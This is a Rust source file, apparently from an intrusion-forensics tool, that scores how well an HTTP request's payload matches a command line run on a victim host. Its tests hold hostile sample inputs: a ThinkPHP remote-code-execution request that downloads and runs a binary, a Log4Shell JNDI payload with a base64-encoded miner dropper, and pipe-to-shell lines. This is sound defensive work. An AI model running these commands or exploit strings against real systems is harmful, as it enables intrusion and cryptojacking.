//! a request's payload and a victim's command line → how surely the one brought the other.
//!
//! Unlike `identify` this keeps addresses and names: that they are the same on both sides is the evidence.

use std::collections::BTreeSet;

use super::normalize::normalize_as_sent;

const MAX_WORDS: usize = 2048;

/// Words that stand in any command line: alike in these, two texts need have nothing to do with each other.
const COMMON: &[&str] = &[
    "sh",
    "bash",
    "bin",
    "usr",
    "tmp",
    "var",
    "cd",
    "echo",
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "http",
    "https",
    "wget",
    "curl",
    "chmod",
    "777",
    "rm",
    "rf",
    "sudo",
    "busybox",
    "base64",
    "python",
    "perl",
    "cmd",
    "exe",
    "powershell",
    "dev",
    "null",
    "nohup",
    "root",
    "etc",
    "grep",
    "com",
    "php",
    "fssl",
    "www",
    "get",
    "post",
    "host",
    "windows",
    "system32",
    "kill",
    "java",
    "txt",
    "exec",
    "eval",
    "true",
    "false",
    "localhost",
    "127",
];

/// Permille likeness between a request's payload and a victim's own command line, after decoding both: the share of
/// the command's weight that stands in the payload in the same order, less where it is made of common words only.
pub fn ties_to_command(payload: &str, cmd_line: &str) -> u16 {
    let (payload, command) = (normalize_as_sent(payload), normalize_as_sent(cmd_line));
    let (payload, command) = (words(&payload), words(&command));
    let single: BTreeSet<&str> = payload.iter().copied().collect();
    let pairs: BTreeSet<(&str, &str)> = payload.windows(2).map(|it| (it[0], it[1])).collect();
    let mut total = 0u32;
    let mut shared = 0u32;
    for (at, &word) in command.iter().enumerate() {
        let weight = weight(word);
        total += weight;
        let before = at.checked_sub(1).is_some_and(|before| pairs.contains(&(command[before], word)));
        let after = command.get(at + 1).is_some_and(|&after| pairs.contains(&(word, after)));
        // A telling word counts by itself: tools are renamed and paths made absolute around it.
        if before || after || (weight >= 6 && single.contains(word)) {
            shared += weight;
        }
    }
    if total == 0 {
        return 0;
    }
    // A URL of three parts and a file's name reach certainty; `whoami` doesn't.
    let most = (shared * 64).min(1000);
    u16::try_from((shared * 1000 / total).min(most)).unwrap_or(1000)
}

/// Words as written, paths and addresses in their parts.
fn words(text: &str) -> Vec<&str> {
    let part = |c: char| !(c.is_alphanumeric() || c == '_');
    text.split(part).filter(|word| !word.is_empty()).take(MAX_WORDS).collect()
}

fn weight(word: &str) -> u32 {
    let digits = word.bytes().all(|b| b.is_ascii_digit());
    match word.len() {
        _ if COMMON.contains(&word) => 1,
        0..=1 => 1,
        2..=3 if !digits => 2,
        2..=5 if digits => 3,
        length => u32::try_from(length.min(12)).unwrap_or(12),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_in_the_request_is_found_again() {
        let request = "GET /index.php?s=/index/think%5Capp/invokefunction&vars[1][]=cd%20/tmp;wget+http://192.0.2.7:8080/kx86;sh+kx86";
        assert!(ties_to_command(request, "sh -c cd /tmp;wget http://192.0.2.7:8080/kx86;sh kx86") > 900);
        assert!(ties_to_command(request, "wget http://192.0.2.7:8080/kx86") > 900);
        assert!(ties_to_command(request, "wget http://198.51.100.3/other.sh -O /tmp/.z") < 300);
    }

    #[test]
    fn base64_on_either_side_is_read() {
        let command = "wget -q http://198.51.100.9/m/xmr.sh -O- | sh";
        use base64::Engine as _;
        let encoded = base64::engine::general_purpose::STANDARD.encode(command);
        let request = format!("${{jndi:ldap://192.0.2.1:1389/Basic/Command/Base64/{encoded}}}");
        assert!(ties_to_command(&request, command) > 900);
        assert!(ties_to_command(&request, &format!("bash -c {{echo,{encoded}}}|{{base64,-d}}|bash")) > 600);
    }

    #[test]
    fn common_words_tie_nothing() {
        assert!(ties_to_command("POST / sh -c whoami", "sh -c whoami") < 300);
        assert!(ties_to_command("curl http://a | bash", "bash") < 100);
        assert_eq!(ties_to_command("anything", ""), 0);
    }
}
